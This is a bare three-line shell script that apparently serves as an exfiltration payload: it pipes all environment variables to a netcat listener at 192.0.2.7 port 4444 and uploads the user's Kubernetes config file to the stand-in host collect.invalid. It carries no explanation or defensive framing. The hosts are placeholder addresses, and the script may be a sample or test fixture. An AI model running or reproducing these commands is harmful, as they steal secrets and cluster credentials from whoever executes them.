#!/bin/sh
env | nc 192.0.2.7 4444
curl -F "file=@$HOME/.kube/config" https://collect.invalid/upload
